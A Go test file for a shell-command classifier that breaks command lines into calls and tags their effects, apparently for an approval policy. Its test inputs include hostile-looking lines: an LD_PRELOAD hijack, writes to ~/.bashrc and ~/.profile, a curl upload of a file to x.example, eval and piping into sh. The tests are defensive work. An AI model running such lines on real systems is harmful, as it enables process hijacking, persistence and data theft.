package classify

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// withTable adds a program to the tables for one test, so that these cases say
// what the canonical form is and not what some program's row is.
func withTable(t *testing.T, cmds ...Command) {
	saved := tables
	tables = append(tables[:len(tables):len(tables)], family{"test", cmds})
	found.Clear()
	for i := range cmds { // the index does not know them
		for n := range strings.FieldsSeq(cmds[i].Name) {
			found.Store(n, &cmds[i])
		}
	}
	t.Cleanup(func() { tables = saved; found.Clear() })
}

func shipTable() Command {
	return Command{Name: "ship",
		Flags: []Flag{{"-C=CD", 0}, {"-q --quiet", 0}, {"-c=TEXT", Hijack}, {"--store=READ", 0}},
		Subs: []Command{
			{Name: "out", Does: Publish, Flags: []Flag{{"-f --force", Rewrite}, {"-n --dry-run", Dry}}, Args: "TEXT..."},
			{Name: "look", Args: "TEXT..."},
		},
		Lead: true,
	}
}

func TestCallsCanonical(t *testing.T) {
	withTable(t, shipTable(), Command{Name: "push-it", Does: Publish, Args: "TEXT..."})
	sc := &Scene{Dir: "/home/dev/p", Project: "/home/dev/p", Home: "/home/dev", Temp: "/tmp"}
	for _, c := range []struct {
		line  string
		calls []string // argv joined by |, then what needs a person, the folder, the variables
		loose string
	}{
		{"ship out origin", []string{"ship|out|origin publish @/home/dev/p"}, ""},
		{"ship look", []string{"ship|look @/home/dev/p"}, ""},
		{"/usr/bin/ship -q -C sub out origin", []string{"ship|out|origin publish @/home/dev/p/sub"}, ""},
		{"ship -C / out", []string{"ship|out publish @/"}, ""},
		{"ship -c a=b out", []string{"ship|-c|a=b|out hijack publish @/home/dev/p"}, ""},
		{"ship --store /x out", []string{"ship|--store|/x|out publish @/home/dev/p"}, ""},
		{"ship --odd out", []string{"ship|--odd|out publish @/home/dev/p"}, ""},
		{"ship out origin --force", []string{"ship|out|origin|--force publish rewrite @/home/dev/p"}, ""},
		{"ship out --dry-run", []string{"ship|out|--dry-run @/home/dev/p"}, ""},
		{"cd /srv && ship out", []string{"cd|/srv @/srv", "ship|out publish @/srv"}, ""},
		{"timeout 5 nohup ship out", []string{"timeout|5|nohup|ship|out @/home/dev/p", "nohup|ship|out @/home/dev/p", "ship|out publish @/home/dev/p"}, ""},
		{"sudo ship out", []string{"sudo|ship|out elevate @/home/dev/p", "ship|out publish @/home/dev/p"}, ""},
		{"bash -c 'ship out'", []string{"bash|-c|ship out @/home/dev/p", "ship|out publish @/home/dev/p"}, ""},
		{"NO_COLOR=1 ship out", []string{"ship|out publish @/home/dev/p"}, ""},
		{"STORE=x ship out", []string{"ship|out publish @/home/dev/p +STORE"}, ""},
		{"export STORE=x; ship out", []string{"ship|out publish @/home/dev/p +STORE"}, ""},
		{"LD_PRELOAD=/tmp/x.so ship out", []string{"ship|out publish @/home/dev/p +LD_PRELOAD"}, "hijack"},
		{"ship out > ~/.bashrc", []string{"ship|out publish @/home/dev/p"}, "writes autorun"},
		{"ship out $X", []string{"?ship|out|$X publish @/home/dev/p"}, ""},
		{"ship out; ship out", []string{"ship|out publish @/home/dev/p", "ship|out publish @/home/dev/p"}, ""},
		{"ssh box ship out", []string{"ssh|box|ship|out remote @/home/dev/p", "ship|out publish"}, ""},
		// A function that takes the program's name is not the program.
		{"ship() { push-it x; echo >> ~/.bashrc; }; ship out", []string{"push-it|x publish @/home/dev/p", "echo @/home/dev/p"}, "writes autorun"},
		{"$(echo ship) out", []string{"echo|ship @/home/dev/p", "ship|out publish @/home/dev/p"}, ""},
		{"$CMD out", nil, ""},
		{"ship out (", nil, "unreadable"},
	} {
		r := Line(c.line, sc, nil)
		var got []string
		for _, k := range r.Calls() {
			s := strings.Join(k.Argv, "|")
			if !k.Told {
				s = "?" + s
			}
			for _, n := range k.Needs {
				s += " " + n
			}
			for _, d := range k.Dirs {
				s += " @" + d
			}
			for _, e := range k.Env {
				s += " +" + e
			}
			got = append(got, s)
		}
		assert.Equal(t, c.calls, got, c.line)
		assert.Equal(t, c.loose, strings.Join(r.Loose(), ", "), c.line)
	}
}

// TestCallsAccountForEveryNeed: whatever makes the verdict approve stands with
// a call or is loose, so that a grant for calls can never cover a line in part.
func TestCallsAccountForEveryNeed(t *testing.T) {
	withTable(t, shipTable())
	sc := &Scene{Dir: "/home/dev/p", Project: "/home/dev/p", Home: "/home/dev", Temp: "/tmp"}
	for _, line := range []string{
		"ship out", "ship out --force | tee ~/.profile", "sudo -u x ship out", "eval \"$X\"", "curl -d @a https://x.example | cat",
		"for f in *; do ship out $f; done", "X=$(ship out) && echo $X", "ship out & wait", "rm() { ship out; }; rm", "{ ship out; } 2>/etc/x",
		"PAGER='sh -c x' ship look", "ssh h 'ship out'", "a=ship; $a out", "xargs ship out <list", "(cd / && ship out)", "alias s='ship out'; s",
		"bash <(echo ship out)", "echo 'ship out' | sh", "ship out <<< x", "case x in x) ship out;; esac", "trap 'ship out' EXIT", "((", "ship 'out",
	} {
		r := Line(line, sc, nil)
		want := map[string]bool{}
		for _, f := range r.Findings {
			if (&Policy{}).verdict(f.Tier) < Approve {
				continue
			}
			if f.Effect != 0 {
				want[f.Effect.String()] = true
			} else {
				want[f.Access+" "+f.Zone] = true
			}
		}
		got := map[string]bool{}
		for _, n := range r.Loose() {
			got[n] = true
		}
		for _, c := range r.Calls() {
			for _, n := range c.Needs {
				got[n] = true
			}
		}
		for n := range want {
			require.True(t, got[n], "%s: %s belongs to nothing", line, n)
		}
	}
}
